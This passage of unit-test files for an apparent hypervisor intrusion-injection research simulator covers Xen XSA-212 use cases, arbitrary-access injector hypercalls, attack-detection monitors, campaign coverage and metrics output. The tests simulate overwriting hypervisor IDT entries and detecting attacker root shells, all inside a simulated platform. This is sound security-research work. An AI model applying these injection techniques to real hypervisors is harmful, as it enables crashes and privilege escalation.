  for (std::uint64_t v = 1; v <= 1000; ++v) h.record(v);
  const double p50 = h.percentile(0.50);
  const double p95 = h.percentile(0.95);
  const double p99 = h.percentile(0.99);
  EXPECT_LE(p50, p95);
  EXPECT_LE(p95, p99);
  EXPECT_GE(p50, 1.0);
  EXPECT_LE(p99, 1000.0);
  // Bucketed estimate: p50 of 1..1000 must land in the right ballpark.
  EXPECT_NEAR(p50, 500.0, 260.0);
}

TEST(Histogram, PercentileEdgeCases) {
  // p=0 pins to the observed minimum, p=1 to the observed maximum, and
  // out-of-range p clamps instead of extrapolating.
  Histogram single{{10}};
  for (int i = 0; i < 3; ++i) single.record(5);
  EXPECT_DOUBLE_EQ(single.percentile(0.0), 5.0);
  EXPECT_DOUBLE_EQ(single.percentile(1.0), 5.0);
  EXPECT_DOUBLE_EQ(single.percentile(-0.5), 5.0);
  EXPECT_DOUBLE_EQ(single.percentile(1.5), 5.0);

  // Values beyond the last bound land in the overflow bucket, whose upper
  // edge is the observed max — estimates never leave [min, max].
  Histogram overflow{{10}};
  overflow.record(100);
  overflow.record(200);
  EXPECT_DOUBLE_EQ(overflow.percentile(0.5), 150.0);
  EXPECT_GE(overflow.percentile(0.0), 100.0);
  EXPECT_LE(overflow.percentile(1.0), 200.0);

  // Empty histogram: every percentile is 0 (no samples to bound it).
  Histogram empty{{10}};
  EXPECT_DOUBLE_EQ(empty.percentile(0.0), 0.0);
  EXPECT_DOUBLE_EQ(empty.percentile(1.0), 0.0);
}

TEST(Histogram, MergeFoldsBucketsExactly) {
  const std::vector<std::uint64_t> bounds{10, 100, 1000};
  Histogram a{bounds};
  Histogram b{bounds};
  Histogram reference{bounds};
  for (const std::uint64_t v : {5u, 50u, 500u}) {
    a.record(v);
    reference.record(v);
  }
  for (const std::uint64_t v : {7u, 70u, 7000u}) {
    b.record(v);
    reference.record(v);
  }
  a.merge(b);
  EXPECT_EQ(a.count(), reference.count());
  EXPECT_EQ(a.sum(), reference.sum());
  EXPECT_EQ(a.min(), reference.min());
  EXPECT_EQ(a.max(), reference.max());
  EXPECT_EQ(a.buckets(), reference.buckets());
  // Bucket-exact fold ⇒ identical percentile estimates, not just counts.
  EXPECT_DOUBLE_EQ(a.percentile(0.95), reference.percentile(0.95));
}

TEST(Histogram, MergeRejectsMismatchedBounds) {
  Histogram a{{10, 100}};
  Histogram b{{10, 200}};
  EXPECT_THROW(a.merge(b), std::invalid_argument);
}

TEST(Histogram, MergeOfEmptyIsIdentityBothWays) {
  Histogram a{{10}};
  a.record(5);
  Histogram empty{{10}};
  a.merge(empty);  // empty rhs: nothing changes (min must not become 0)
  EXPECT_EQ(a.count(), 1u);
  EXPECT_EQ(a.min(), 5u);
  empty.merge(a);  // empty lhs adopts rhs extremes
  EXPECT_EQ(empty.count(), 1u);
  EXPECT_EQ(empty.min(), 5u);
  EXPECT_EQ(empty.max(), 5u);
}

TEST(MetricsRegistry, MergedPercentilesMatchSingleRegistry) {
  // Worker registries merged into a total must report the same histogram
  // shape a single-threaded run records — the property the campaign's
  // per-worker aggregation depends on.
  MetricsRegistry w1;
  MetricsRegistry w2;
  MetricsRegistry serial;
  const auto bounds = Histogram::exponential_bounds(16, 2, 10);
  for (std::uint64_t v = 1; v <= 100; ++v) {
    (v % 2 == 0 ? w1 : w2).histogram("ns", bounds).record(v * 7);
    serial.histogram("ns", bounds).record(v * 7);
  }
  MetricsRegistry total;
  total.merge(w1.snapshot());
  total.merge(w2.snapshot());
  const auto merged = total.snapshot().histograms.at("ns");
  const auto expected = serial.snapshot().histograms.at("ns");
  EXPECT_EQ(merged.buckets, expected.buckets);
  EXPECT_DOUBLE_EQ(merged.p50, expected.p50);
  EXPECT_DOUBLE_EQ(merged.p95, expected.p95);
  EXPECT_DOUBLE_EQ(merged.p99, expected.p99);
}

TEST(Histogram, RejectsUnsortedBounds) {
  EXPECT_THROW(Histogram({10, 5}), std::invalid_argument);
  EXPECT_THROW(Histogram({10, 10}), std::invalid_argument);
}

TEST(Histogram, ExponentialBoundsAreGeometric) {
  const auto bounds = Histogram::exponential_bounds(16, 2, 4);
  EXPECT_EQ(bounds, (std::vector<std::uint64_t>{16, 32, 64, 128}));
}

TEST(MetricsRegistry, SnapshotIsDeterministic) {
  MetricsRegistry reg;
  reg.counter("b").inc(2);
  reg.counter("a").inc(1);
  reg.histogram("h", {10, 100}).record(7);
  const MetricsSnapshot s1 = reg.snapshot();
  const MetricsSnapshot s2 = reg.snapshot();
  EXPECT_EQ(s1.counters, s2.counters);
  EXPECT_EQ(metrics_jsonl(s1), metrics_jsonl(s2));
  // std::map ordering: "a" serializes before "b".
  const std::string json = metrics_jsonl(s1);
  EXPECT_LT(json.find("\"a\":1"), json.find("\"b\":2"));
  EXPECT_EQ(s1.counter("a"), 1u);
  EXPECT_EQ(s1.counter("missing"), 0u);
}

TEST(MetricsRegistry, MergeAddsCountersAndFoldsHistograms) {
  MetricsRegistry worker1;
  worker1.counter("cells").inc(3);
  worker1.histogram("wall_us", {10, 100, 1000}).record(50);
  MetricsRegistry worker2;
  worker2.counter("cells").inc(4);
  worker2.histogram("wall_us", {10, 100, 1000}).record(500);

  MetricsRegistry total;
  total.merge(worker1.snapshot());
  total.merge(worker2.snapshot());
  const MetricsSnapshot merged = total.snapshot();
  EXPECT_EQ(merged.counter("cells"), 7u);
  EXPECT_EQ(merged.histograms.at("wall_us").count, 2u);
}

TEST(MetricsRegistry, MergeWithMismatchedBoundsPreservesCount) {
  MetricsRegistry reg;
  reg.histogram("h", {10, 100}).record(50);
  MetricsSnapshot other;
  MetricsSnapshot::HistogramData data;
  data.bounds = {7, 77};  // different ladder
  data.buckets = {1, 1, 0};
  data.count = 2;
  data.sum = 60;
  data.min = 10;
  data.max = 50;
  other.histograms["h"] = data;
  reg.merge(other);
  EXPECT_EQ(reg.snapshot().histograms.at("h").count, 3u);
}

TEST(SinkMetrics, FlattensNonzeroCountersOnly) {
  TraceSink sink{16, 0};
  sink.emit(TraceCategory::HypercallEnter, 1, 12);
  sink.emit(TraceCategory::HypercallExit, 1, 12);
  sink.emit(TraceCategory::HypercallEnter, 1, 12);
  sink.emit(TraceCategory::HypercallExit, 1, 12);
  sink.emit(TraceCategory::Injection, 1);

  const MetricsSnapshot snap = sink_metrics(sink);
  EXPECT_EQ(snap.counter("trace.hypercall_enter"), 2u);
  EXPECT_EQ(snap.counter("trace.injection"), 1u);
  EXPECT_EQ(snap.counter("hypercall.nr12"), 2u);
  EXPECT_EQ(snap.counters.count("trace.panic"), 0u);

  // Per-nr counters sum exactly to the traced enter events.
  std::uint64_t per_nr = 0;
  for (const auto& [name, value] : snap.counters) {
    if (name.rfind("hypercall.nr", 0) == 0) per_nr += value;
  }
  EXPECT_EQ(per_nr, snap.counter("trace.hypercall_enter"));
}

TEST(Jsonl, EscapesControlAndQuoteCharacters) {
  EXPECT_EQ(json_escape("a\"b\\c\nd"), "a\\\"b\\\\c\\nd");
  EXPECT_EQ(json_escape(std::string{"\x01"}), "\\u0001");
}

TEST(Jsonl, EventLineFormat) {
  const TraceEvent event{3, TraceCategory::HypercallExit, 1, 12, -22, 0xABC};
  EXPECT_EQ(event_jsonl(event),
            "{\"type\":\"trace\",\"seq\":3,\"cat\":\"hypercall_exit\","
            "\"dom\":1,\"code\":12,\"rc\":-22,\"addr\":\"0xabc\"}");
  // Cell tag, no-domain and zero-addr elision.
  const TraceEvent bare{0, TraceCategory::Panic, kNoDomain, 0, 0, 0};
  EXPECT_EQ(event_jsonl(bare, "XSA-212-crash@4.6/exploit"),
            "{\"type\":\"trace\",\"cell\":\"XSA-212-crash@4.6/exploit\","
            "\"seq\":0,\"cat\":\"panic\",\"code\":0,\"rc\":0}");
}

TEST(Jsonl, MetricsLineFormat) {
  MetricsRegistry reg;
  reg.counter("trace.panic").inc();
  reg.histogram("ns", {10}).record(4);
  const std::string json = metrics_jsonl(reg.snapshot());
  EXPECT_EQ(json.rfind("{\"type\":\"metrics\",\"counters\":{\"trace.panic\""
                       ":1},\"histograms\":{\"ns\":{\"count\":1,\"sum\":4,"
                       "\"min\":4,\"max\":4,", 0),
            0u);
}

TEST(Jsonl, StreamHelpersAreNewlineTerminated) {
  std::ostringstream os;
  write_event(os, TraceEvent{});
  write_events(os, std::vector<TraceEvent>(2), "cell");
  write_metrics(os, MetricsSnapshot{});
  const std::string out = os.str();
  EXPECT_EQ(std::count(out.begin(), out.end(), '\n'), 4);
  EXPECT_EQ(out.back(), '\n');
}

TEST(Jsonl, SpanLineFormat) {
  SpanProfiler prof;
  prof.add({kSpanCell, kSpanInject}, 2, 79);
  const SpanNode& cell = *prof.root().children.at("cell");
  const std::string line = span_jsonl("cell/inject",
                                      *cell.children.at("inject"));
  EXPECT_EQ(line.rfind("{\"type\":\"span\",\"path\":\"cell/inject\","
                       "\"kind\":\"det\",\"count\":2,\"steps\":79,"
                       "\"total_steps\":79,",
                       0),
            0u);
}

TEST(Jsonl, WriterAppendsTypedRecords) {
  const std::string path = ::testing::TempDir() + "jsonl_writer_test.jsonl";
  {
    JsonlWriter writer{path};
    ASSERT_TRUE(writer.ok());
    writer.event(TraceEvent{}, "cell");
    MetricsRegistry reg;
    reg.counter("c").inc();
    writer.metrics(reg.snapshot());
    SpanProfiler prof;
    prof.add({kSpanCell}, 1, 3);
    writer.spans(prof);
  }
  std::ifstream in{path};
  std::string line;
  std::vector<std::string> kinds;
  while (std::getline(in, line)) {
    kinds.push_back(line.substr(0, line.find(',')));
  }
  ASSERT_EQ(kinds.size(), 3u);
  EXPECT_EQ(kinds[0], "{\"type\":\"trace\"");
  EXPECT_EQ(kinds[1], "{\"type\":\"metrics\"");
  EXPECT_EQ(kinds[2], "{\"type\":\"span\"");
  std::remove(path.c_str());
}

}  // namespace
}  // namespace ii::obs
