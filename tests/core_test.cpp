// Core vocabulary, injector API, monitor and report formatting.
#include <gtest/gtest.h>

#include "core/injector.hpp"
#include "core/monitor.hpp"
#include "core/report.hpp"
#include "guest/platform.hpp"

namespace ii::core {
namespace {

guest::PlatformConfig small_config() {
  guest::PlatformConfig pc{};
  pc.machine_frames = 8192;
  pc.dom0_pages = 128;
  pc.guest_pages = 64;
  return pc;
}

// ----------------------------------------------------------------- taxonomy

TEST(Taxonomy, EveryFunctionalityHasClassAndName) {
  for (const AbusiveFunctionality af : kAllAbusiveFunctionalities) {
    EXPECT_FALSE(to_string(af).empty());
    EXPECT_FALSE(to_string(class_of(af)).empty());
  }
}

TEST(Taxonomy, ClassAssignmentsMatchTableOne) {
  EXPECT_EQ(class_of(AbusiveFunctionality::ReadUnauthorizedMemory),
            FunctionalityClass::MemoryAccess);
  EXPECT_EQ(class_of(AbusiveFunctionality::KeepPageAccess),
            FunctionalityClass::MemoryManagement);
  EXPECT_EQ(class_of(AbusiveFunctionality::InduceFatalException),
            FunctionalityClass::ExceptionalConditions);
  EXPECT_EQ(class_of(AbusiveFunctionality::InduceHangState),
            FunctionalityClass::NonMemoryRelated);
}

TEST(Taxonomy, SixteenFunctionalities) {
  EXPECT_EQ(std::size(kAllAbusiveFunctionalities), 16u);
}

// ------------------------------------------------------------ intrusion model

TEST(IntrusionModelTest, DescribeMentionsEveryPart) {
  IntrusionModel model{};
  model.source = TriggeringSource::UnprivilegedGuest;
  model.component = TargetComponent::MemoryManagement;
  model.interface = InteractionInterface::Hypercall;
  model.functionality = AbusiveFunctionality::GuestWritablePageTableEntry;
  model.erroneous_state = "writable self map";
  const std::string desc = model.describe();
  EXPECT_NE(desc.find("unprivileged guest"), std::string::npos);
  EXPECT_NE(desc.find("hypercall"), std::string::npos);
  EXPECT_NE(desc.find("memory management"), std::string::npos);
  EXPECT_NE(desc.find("Guest-Writable Page Table Entry"), std::string::npos);
  EXPECT_NE(desc.find("writable self map"), std::string::npos);
}

// ------------------------------------------------------------------ injector

TEST(InjectorApi, U64HelpersRoundTrip) {
  guest::VirtualPlatform p{small_config()};
  ArbitraryAccessInjector injector{p.guest(0)};
  const std::uint64_t target =
      sim::mfn_to_paddr(*p.dom0().pfn_to_mfn(guest::kStartInfoPfn)).raw() +
      0x200;
  ASSERT_TRUE(injector.write_u64(target, 0xFEEDFACE, AddressMode::Physical));
  EXPECT_EQ(injector.read_u64(target, AddressMode::Physical), 0xFEEDFACE);
  EXPECT_EQ(injector.last_rc(), hv::kOk);
}

TEST(InjectorApi, ReportsRefusal) {
  guest::PlatformConfig pc = small_config();
  pc.injector_enabled = false;
  guest::VirtualPlatform p{pc};
  ArbitraryAccessInjector injector{p.guest(0)};
  EXPECT_FALSE(injector.write_u64(0, 1, AddressMode::Physical));
  EXPECT_EQ(injector.last_rc(), hv::kENOSYS);
  EXPECT_FALSE(injector.read_u64(0, AddressMode::Physical).has_value());
}

// ------------------------------------------------------------------- monitor

TEST(Monitor, ObserveSnapshotsConsoleAndAudit) {
  guest::VirtualPlatform p{small_config()};
  SystemMonitor monitor{p};
  const Observation obs = monitor.observe(3);
  EXPECT_FALSE(obs.hypervisor_crashed);
  EXPECT_TRUE(obs.audit.clean());
  EXPECT_LE(obs.console_tail.size(), 3u);
  EXPECT_FALSE(monitor.crash_detected());
}

TEST(Monitor, FileInAllDomainsSemantics) {
  guest::VirtualPlatform p{small_config()};
  SystemMonitor monitor{p};
  EXPECT_FALSE(monitor.file_in_all_domains("/tmp/x"));
  for (guest::GuestKernel* k : p.kernels()) {
    k->fs().write("/tmp/x", 0, "uid=0(root) marker");
  }
  EXPECT_TRUE(monitor.file_in_all_domains("/tmp/x"));
  EXPECT_TRUE(monitor.file_in_all_domains("/tmp/x", "uid=0(root)"));
  EXPECT_FALSE(monitor.file_in_all_domains("/tmp/x", "uid=1000"));
  // One domain missing the file -> false.
  p.guest(1).fs().write("/tmp/y", 0, "only here");
  EXPECT_FALSE(monitor.file_in_all_domains("/tmp/y"));
}

TEST(Monitor, AttackerRootShellRequiresConnection) {
  guest::VirtualPlatform p{small_config()};
  SystemMonitor monitor{p};
  EXPECT_FALSE(monitor.attacker_root_shell(1234));
  p.attacker().listen(1234);
  EXPECT_FALSE(monitor.attacker_root_shell(1234));  // listening, no implant
}

// -------------------------------------------------------------------- report

TEST(Report, GenericTableAlignsColumns) {
  const std::string out = render_table({"A", "Bee"}, {{"xx", "y"}});
  // Four border lines + header + one row.
  EXPECT_EQ(std::count(out.begin(), out.end(), '\n'), 5);
  EXPECT_NE(out.find("| A "), std::string::npos);
  EXPECT_NE(out.find("| xx "), std::string::npos);
}

TEST(Report, Table3MarksShieldCells) {
  std::vector<CellResult> results;
  CellResult ok{};
  ok.use_case = "CASE-A";
  ok.version = hv::kXen48;
  ok.mode = Mode::Injection;
  ok.err_state = true;
  ok.violation = true;
  results.push_back(ok);
  CellResult shield = ok;
  shield.version = hv::kXen413;
  shield.violation = false;
  results.push_back(shield);
  const std::string out = render_table3(results);
  EXPECT_NE(out.find("CASE-A"), std::string::npos);
  EXPECT_NE(out.find("[shield]"), std::string::npos);
}

TEST(Report, ModeNames) {
  EXPECT_EQ(to_string(Mode::Exploit), "exploit");
  EXPECT_EQ(to_string(Mode::Injection), "injection");
}

}  // namespace
}  // namespace ii::core
