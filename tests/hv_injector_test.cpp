// The HYPERVISOR_arbitrary_access hypercall (the injector's kernel half).
#include <gtest/gtest.h>

#include <cstring>
#include <set>

#include "hv/hypervisor.hpp"

namespace ii::hv {
namespace {

struct Fixture {
  explicit Fixture(bool injector, XenVersion version = kXen48)
      : mem{8192},
        hv{mem, VersionPolicy::for_version(version),
           HvConfig{.xen_frames = 16, .injector_enabled = injector}} {
    dom0 = hv.create_domain("dom0", true, 64);
    guest = hv.create_domain("guest01", false, 64);
  }

  long access(std::uint64_t addr, std::span<std::uint8_t> buf,
              AccessAction action) {
    ArbitraryAccess req{addr, buf, action};
    return hv.hypercall_arbitrary_access(guest, req);
  }

  sim::PhysicalMemory mem;
  Hypervisor hv;
  DomainId dom0{}, guest{};
};

TEST(ArbitraryAccess, StockBuildRefusesWithEnosys) {
  Fixture f{false};
  std::array<std::uint8_t, 8> buf{};
  EXPECT_EQ(f.access(0, buf, AccessAction::ReadPhysical), kENOSYS);
}

TEST(ArbitraryAccess, PhysicalRoundTrip) {
  Fixture f{true};
  std::array<std::uint8_t, 8> in{1, 2, 3, 4, 5, 6, 7, 8};
  // Write into dom0's start_info frame: memory the guest must never reach
  // legitimately.
  const sim::Paddr target =
      sim::mfn_to_paddr(f.hv.domain(f.dom0).start_info_mfn()) + 0x100;
  EXPECT_EQ(f.access(target.raw(), in, AccessAction::WritePhysical), kOk);
  std::array<std::uint8_t, 8> out{};
  EXPECT_EQ(f.access(target.raw(), out, AccessAction::ReadPhysical), kOk);
  EXPECT_EQ(in, out);
}

TEST(ArbitraryAccess, PhysicalOutOfRangeFaults) {
  Fixture f{true};
  std::array<std::uint8_t, 8> buf{};
  EXPECT_EQ(f.access(f.mem.byte_size(), buf, AccessAction::ReadPhysical),
            kEFAULT);
  EXPECT_EQ(f.access(f.mem.byte_size() - 4, buf, AccessAction::WritePhysical),
            kEFAULT);
}

TEST(ArbitraryAccess, LinearReachesHypervisorStructures) {
  Fixture f{true};
  // Read the IDT through its linear (directmap) address.
  std::array<std::uint8_t, 16> gate{};
  EXPECT_EQ(f.access(f.hv.sidt().raw(), gate, AccessAction::ReadLinear), kOk);
  EXPECT_TRUE(sim::Idt::decode(gate).well_formed());

  // Overwrite it: the canonical injection of the XSA-212-crash state.
  std::array<std::uint8_t, 8> zeros{};
  EXPECT_EQ(f.access(f.hv.sidt().raw() + 14 * sim::Idt::kGateBytes, zeros,
                     AccessAction::WriteLinear),
            kOk);
  EXPECT_FALSE(f.hv.idt().read(14).well_formed());
}

TEST(ArbitraryAccess, LinearWorksOnHardened413) {
  // The paper's RQ2 hinges on this: the injector keeps full power on the
  // hardened version because it writes with hypervisor privilege.
  Fixture f{true, kXen413};
  std::array<std::uint8_t, 8> zeros{};
  EXPECT_EQ(f.access(f.hv.sidt().raw() + 14 * sim::Idt::kGateBytes, zeros,
                     AccessAction::WriteLinear),
            kOk);
  EXPECT_FALSE(f.hv.idt().read(14).well_formed());
}

TEST(ArbitraryAccess, LinearResolvesGuestAddressesToo) {
  Fixture f{true};
  // "Linear" uses the current address space, so guest VAs work as well.
  std::array<std::uint8_t, 4> in{9, 9, 9, 9};
  const std::uint64_t va = kGuestKernelBase + 5 * sim::kPageSize;
  EXPECT_EQ(f.access(va, in, AccessAction::WriteLinear), kOk);
  const auto mfn = f.hv.domain(f.guest).p2m(sim::Pfn{5});
  EXPECT_EQ(f.mem.frame_bytes(*mfn)[0], 9);
}

TEST(ArbitraryAccess, LinearUnmappedFaults) {
  Fixture f{true};
  std::array<std::uint8_t, 8> buf{};
  EXPECT_EQ(f.access(0xDEAD00000000ULL, buf, AccessAction::ReadLinear),
            kEFAULT);
}

TEST(ArbitraryAccess, LinearWriteHonoursHypervisorReadOnly) {
  // Supervisor writes still respect RW=0: the guest-RO Xen text window is
  // not writable even through the injector's linear mode. (Physical mode
  // is the documented way to reach it.)
  Fixture f{true};
  std::array<std::uint8_t, 8> buf{1};
  EXPECT_EQ(f.access(kXenTextBase, buf, AccessAction::WriteLinear), kEFAULT);
  EXPECT_EQ(f.access(kXenTextBase, buf, AccessAction::ReadLinear), kOk);
}

TEST(ArbitraryAccess, CrossPagePhysicalAndLinear) {
  Fixture f{true};
  std::vector<std::uint8_t> in(sim::kPageSize + 64, 0xEE);
  const std::uint64_t va = kGuestKernelBase + 5 * sim::kPageSize + 0x800;
  EXPECT_EQ(f.access(va, in, AccessAction::WriteLinear), kOk);
  const auto m5 = f.hv.domain(f.guest).p2m(sim::Pfn{5});
  const auto m6 = f.hv.domain(f.guest).p2m(sim::Pfn{6});
  EXPECT_EQ(f.mem.frame_bytes(*m5)[0x800], 0xEE);
  EXPECT_EQ(f.mem.frame_bytes(*m6)[0x800 + 63], 0xEE);
}

TEST(ArbitraryAccess, RefusedAfterCrash) {
  Fixture f{true};
  f.hv.panic("test halt");
  std::array<std::uint8_t, 8> buf{};
  EXPECT_EQ(f.access(0, buf, AccessAction::ReadPhysical), kEINVAL);
}

}  // namespace
}  // namespace ii::hv
