// Unit tests for the page-table-entry codec and address decomposition.
#include <gtest/gtest.h>

#include "sim/pte.hpp"

namespace ii::sim {
namespace {

TEST(Pte, DefaultIsNotPresent) {
  const Pte e{};
  EXPECT_FALSE(e.present());
  EXPECT_EQ(e.raw(), 0u);
}

TEST(Pte, MakeSetsFrameAndFlags) {
  const Pte e = Pte::make(Mfn{0x1234}, Pte::kPresent | Pte::kWritable);
  EXPECT_TRUE(e.present());
  EXPECT_TRUE(e.writable());
  EXPECT_FALSE(e.user());
  EXPECT_EQ(e.frame(), Mfn{0x1234});
}

TEST(Pte, FlagAccessorsMatchBits) {
  const Pte e{Pte::kPresent | Pte::kUser | Pte::kPageSize | Pte::kGlobal |
              Pte::kAccessed | Pte::kDirty | Pte::kNoExecute};
  EXPECT_TRUE(e.present());
  EXPECT_TRUE(e.user());
  EXPECT_TRUE(e.large_page());
  EXPECT_TRUE(e.global());
  EXPECT_TRUE(e.accessed());
  EXPECT_TRUE(e.dirty());
  EXPECT_TRUE(e.no_execute());
  EXPECT_FALSE(e.writable());
}

TEST(Pte, FrameFieldDoesNotBleedIntoFlags) {
  const Pte e = Pte::make(Mfn{0xFFFFFFFFFF}, 0);
  EXPECT_FALSE(e.present());
  EXPECT_EQ(e.frame().raw(), 0xFFFFFFFFFFull);
}

TEST(Pte, MakeMasksOverlongFrame) {
  // Frames beyond bit 51-12 are truncated into the frame field.
  const Pte e = Pte::make(Mfn{~0ULL}, Pte::kPresent);
  EXPECT_EQ((e.raw() & ~Pte::kFrameMask) & ~Pte::kFlagMask, 0u);
}

TEST(Pte, ReservedBitsDetected) {
  EXPECT_FALSE(Pte{Pte::kPresent}.has_reserved_bits());
  EXPECT_TRUE(Pte{Pte::kPresent | (1ULL << 9)}.has_reserved_bits());
  EXPECT_TRUE(Pte{1ULL << 62}.has_reserved_bits());
}

TEST(Pte, WithWithoutFlags) {
  const Pte base = Pte::make(Mfn{5}, Pte::kPresent);
  const Pte rw = base.with_flags(Pte::kWritable);
  EXPECT_TRUE(rw.writable());
  EXPECT_EQ(rw.frame(), base.frame());
  const Pte back = rw.without_flags(Pte::kWritable);
  EXPECT_EQ(back, base);
}

TEST(Decompose, KnownAddress) {
  // 0xffff880000200000: L4=272, L3=0, L2=1, L1=0 (guest kernel area).
  const auto idx = decompose(Vaddr{0xFFFF880000200000ULL});
  EXPECT_EQ(idx.l4, 272u);
  EXPECT_EQ(idx.l3, 0u);
  EXPECT_EQ(idx.l2, 1u);
  EXPECT_EQ(idx.l1, 0u);
}

TEST(Decompose, LevelIndexOfAgrees) {
  const Vaddr va{0xFFFF804012345678ULL};
  const auto idx = decompose(va);
  EXPECT_EQ(level_index_of(va, PtLevel::L4), idx.l4);
  EXPECT_EQ(level_index_of(va, PtLevel::L3), idx.l3);
  EXPECT_EQ(level_index_of(va, PtLevel::L2), idx.l2);
  EXPECT_EQ(level_index_of(va, PtLevel::L1), idx.l1);
}

TEST(Compose, SignExtendsHighHalf) {
  const Vaddr va = compose_vaddr(256, 0, 0, 0);
  EXPECT_EQ(va.raw(), 0xFFFF800000000000ULL);
  EXPECT_TRUE(is_canonical(va));
}

TEST(Compose, LowHalfStaysLow) {
  const Vaddr va = compose_vaddr(1, 2, 3, 4, 5);
  EXPECT_EQ(va.raw() >> 47, 0u);
  EXPECT_TRUE(is_canonical(va));
}

TEST(Canonical, Boundaries) {
  EXPECT_TRUE(is_canonical(Vaddr{0}));
  EXPECT_TRUE(is_canonical(Vaddr{0x00007FFFFFFFFFFFULL}));
  EXPECT_FALSE(is_canonical(Vaddr{0x0000800000000000ULL}));
  EXPECT_FALSE(is_canonical(Vaddr{0xFFFE800000000000ULL}));
  EXPECT_TRUE(is_canonical(Vaddr{0xFFFF800000000000ULL}));
  EXPECT_TRUE(is_canonical(Vaddr{~0ULL}));
}

TEST(Types, PageArithmetic) {
  EXPECT_EQ(paddr_to_mfn(Paddr{0x5432}), Mfn{5});
  EXPECT_EQ(mfn_to_paddr(Mfn{5}).raw(), 0x5000u);
  EXPECT_EQ(page_offset(Paddr{0x5432}), 0x432u);
  EXPECT_EQ(page_offset(Vaddr{0xFFFF800000000FFFULL}), 0xFFFu);
}

/// Property: compose/decompose round-trip over a sweep of index patterns.
class ComposeRoundTrip : public ::testing::TestWithParam<unsigned> {};

TEST_P(ComposeRoundTrip, RoundTrips) {
  const unsigned seed = GetParam();
  // Derive distinct indices deterministically from the seed.
  const unsigned l4 = (seed * 7) % 512;
  const unsigned l3 = (seed * 13 + 1) % 512;
  const unsigned l2 = (seed * 31 + 2) % 512;
  const unsigned l1 = (seed * 101 + 3) % 512;
  const std::uint64_t off = (seed * 29) % kPageSize;
  const Vaddr va = compose_vaddr(l4, l3, l2, l1, off);
  const auto idx = decompose(va);
  EXPECT_EQ(idx.l4, l4);
  EXPECT_EQ(idx.l3, l3);
  EXPECT_EQ(idx.l2, l2);
  EXPECT_EQ(idx.l1, l1);
  EXPECT_EQ(page_offset(va), off);
  EXPECT_TRUE(is_canonical(va));
}

INSTANTIATE_TEST_SUITE_P(Sweep, ComposeRoundTrip,
                         ::testing::Range(0u, 64u));

TEST(Level, ToString) {
  EXPECT_EQ(to_string(PtLevel::L2), "L2 (PMD)");
  EXPECT_EQ(to_string(PtLevel::L4), "L4 (PGD)");
}

}  // namespace
}  // namespace ii::sim
