// Model-coverage accounting and the parallel campaign runner.
#include <gtest/gtest.h>

#include "core/campaign.hpp"
#include "core/coverage.hpp"
#include "cvedb/advisories.hpp"
#include "xsa/usecases.hpp"

namespace ii {
namespace {

std::vector<std::unique_ptr<core::UseCase>> all_cases() {
  auto cases = xsa::make_paper_use_cases();
  for (auto& extension : xsa::make_extension_use_cases()) {
    cases.push_back(std::move(extension));
  }
  return cases;
}

std::vector<core::IntrusionModel> derived_catalogue() {
  std::vector<core::IntrusionModel> catalogue;
  for (const auto& d :
       cvedb::derive_intrusion_models(cvedb::study_records())) {
    catalogue.push_back(d.model);
  }
  return catalogue;
}

TEST(ModelCoverage, PaperUseCasesCoverTheirOwnModels) {
  const auto cases = all_cases();
  std::vector<core::IntrusionModel> catalogue;
  for (const auto& use_case : cases) catalogue.push_back(use_case->model());
  const auto coverage = core::compute_model_coverage(catalogue, cases);
  for (const auto& entry : coverage) {
    EXPECT_TRUE(entry.covered());
  }
}

TEST(ModelCoverage, StudyCatalogueIsPartiallyCovered) {
  const auto coverage =
      core::compute_model_coverage(derived_catalogue(), all_cases());
  std::size_t covered = 0;
  for (const auto& entry : coverage) covered += entry.covered();
  // The executable suite covers several derived models but far from all —
  // the honest picture the accounting exists to show.
  EXPECT_GE(covered, 5u);
  EXPECT_LT(covered, coverage.size());
}

TEST(ModelCoverage, MatchesOnComponentAndFunctionality) {
  const auto cases = all_cases();
  core::IntrusionModel model{};
  model.component = core::TargetComponent::MemoryManagement;
  model.functionality =
      core::AbusiveFunctionality::WriteUnauthorizedArbitraryMemory;
  const auto coverage = core::compute_model_coverage({&model, 1}, cases);
  ASSERT_EQ(coverage.size(), 1u);
  ASSERT_TRUE(coverage[0].covered());
  EXPECT_EQ(coverage[0].covered_by.size(), 2u);  // both XSA-212 cases

  model.component = core::TargetComponent::Scheduler;
  const auto none = core::compute_model_coverage({&model, 1}, cases);
  EXPECT_FALSE(none[0].covered());
}

TEST(ModelCoverage, RenderShowsRatioAndMarks) {
  const auto coverage =
      core::compute_model_coverage(derived_catalogue(), all_cases());
  const std::string out = core::render_coverage(coverage);
  EXPECT_NE(out.find("intrusion-model coverage: "), std::string::npos);
  EXPECT_NE(out.find("[x] "), std::string::npos);
  EXPECT_NE(out.find("[ ] "), std::string::npos);
  EXPECT_NE(out.find("XSA-212-priv"), std::string::npos);
}

TEST(ParallelCampaign, MatchesSerialResults) {
  core::CampaignConfig config{};
  config.modes = {core::Mode::Injection};
  config.platform.machine_frames = 8192;
  config.platform.dom0_pages = 128;
  config.platform.guest_pages = 64;
  const core::Campaign campaign{config};

  const auto serial = campaign.run(xsa::make_paper_use_cases());
  const auto parallel =
      campaign.run_parallel(&xsa::make_paper_use_cases, 4);

  ASSERT_EQ(parallel.size(), serial.size());
  for (std::size_t i = 0; i < serial.size(); ++i) {
    EXPECT_EQ(parallel[i].use_case, serial[i].use_case) << i;
    EXPECT_EQ(parallel[i].version, serial[i].version) << i;
    EXPECT_EQ(parallel[i].mode, serial[i].mode) << i;
    EXPECT_EQ(parallel[i].err_state, serial[i].err_state) << i;
    EXPECT_EQ(parallel[i].violation, serial[i].violation) << i;
  }
}

TEST(ParallelCampaign, SingleThreadAndOversubscription) {
  core::CampaignConfig config{};
  config.versions = {hv::kXen413};
  config.modes = {core::Mode::Injection};
  config.platform.machine_frames = 8192;
  config.platform.dom0_pages = 128;
  config.platform.guest_pages = 64;
  const core::Campaign campaign{config};
  const auto one = campaign.run_parallel(&xsa::make_paper_use_cases, 1);
  const auto many = campaign.run_parallel(&xsa::make_paper_use_cases, 64);
  ASSERT_EQ(one.size(), 4u);
  ASSERT_EQ(many.size(), 4u);
  for (std::size_t i = 0; i < one.size(); ++i) {
    EXPECT_EQ(one[i].violation, many[i].violation) << i;
  }
}

}  // namespace
}  // namespace ii
