// Unit tests for frame ownership/type tracking and the frame allocator.
#include <gtest/gtest.h>

#include "hv/frame_table.hpp"

namespace ii::hv {
namespace {

TEST(FrameTable, AllocSetsOwnerAndRef) {
  FrameTable ft{8};
  const auto mfn = ft.alloc(3);
  ASSERT_TRUE(mfn.has_value());
  const PageInfo& pi = ft.info(*mfn);
  EXPECT_EQ(pi.owner, 3);
